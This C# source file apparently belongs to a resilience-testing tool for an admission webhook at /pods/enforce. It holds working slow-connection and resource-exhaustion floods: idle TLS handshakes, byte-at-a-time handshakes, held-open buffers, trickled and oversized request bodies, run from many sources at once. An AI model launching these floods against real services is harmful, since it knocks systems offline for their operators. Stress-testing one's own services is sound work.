using System.Net.Security;
using System.Text;
using PyOps.Floods.Honest;

namespace PyOps.Floods.Attacks;

/// <summary>Connections to the port of the reviews that bring no review.</summary>
internal static class Tls
{
    private static readonly TimeSpan pause = TimeSpan.FromMilliseconds(500);

    /// <summary>Shakes hands and says nothing.</summary>
    public static Task Idle(Target target, Crowd crowd, CancellationToken end) => crowd.Visit(
        async (from, end) =>
        {
            await using var stream = await Dial.Tls(from, target.Port, SslApplicationProtocol.Http11, end);
            await stream.CopyToAsync(Stream.Null, end);
        },
        end);

    /// <summary>Sends one review, and then nothing more.</summary>
    public static Task IdleAfterAReview(Target target, Crowd crowd, CancellationToken end)
    {
        var review = Reviews.OfBytes(600);
        return crowd.Visit(
            async (from, end) =>
            {
                await using var connection = await RawHttp2.Open(from, target.Port, end);
                await connection.Begin([1], end);
                await connection.Send([1], review, isAll: true, end);
                await connection.Ended.WaitAsync(end);
            },
            end);
    }

    /// <summary>Begins to shake hands, and goes on by a byte at a time.</summary>
    public static Task SlowHandshakes(Target target, Crowd crowd, CancellationToken end) => crowd.Visit(
        async (from, end) =>
        {
            await using var stream = await Dial.Tcp(from, target.Port, end);
            await stream.WriteAsync(new byte[] { 0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3 }, end);
            await Trickle(stream, [0], end);
        },
        end);

    /// <summary>Sends nearly all of a body that is not yet large.</summary>
    public static Task FullBuffers(Target target, Crowd crowd, CancellationToken end) => crowd.Visit(
        async (from, end) =>
        {
            await using var stream = await Dial.Tls(from, target.Port, SslApplicationProtocol.Http11, end);
            await stream.WriteAsync(Head(65_000), end);
            await stream.WriteAsync(Reviews.OfBytes(65_000).AsMemory(0, 63_000), end);
            await stream.CopyToAsync(Stream.Null, end);
        },
        end);

    /// <summary>Sends a large body slowly.</summary>
    public static Task TrickledBodies(Target target, Crowd crowd, CancellationToken end) => crowd.Visit(
        async (from, end) =>
        {
            await using var stream = await Dial.Tls(from, target.Port, SslApplicationProtocol.Http11, end);
            await stream.WriteAsync(Head(7_000_000), end);
            await stream.WriteAsync(Reviews.OfBytes(7_000_000).AsMemory(0, 70_000), end);
            await Trickle(stream, [.. Enumerable.Repeat((byte)'x', 1000)], end);
        },
        end);

    /// <summary>Sends the largest reviews that there can be, as fast as it goes.</summary>
    public static Task LargeReviews(Target target, Crowd crowd, CancellationToken end)
    {
        var review = Reviews.OfBytes(47 << 20);
        return crowd.Visit(
            async (from, end) =>
            {
                await using var stream = await Dial.Tls(from, target.Port, SslApplicationProtocol.Http11, end);
                await stream.WriteAsync(Head(review.Length), end);
                await stream.WriteAsync(review, end);
                await stream.CopyToAsync(Stream.Null, end);
            },
            end);
    }

    internal static async Task Trickle(Stream stream, byte[] some, CancellationToken end)
    {
        for (; ; )
        {
            await stream.WriteAsync(some, end);
            await Task.Delay(pause, end);
        }
    }

    private static byte[] Head(int length) => Encoding.ASCII.GetBytes(
        "POST /pods/enforce HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
            + $"Content-Length: {length}\r\n\r\n");
}
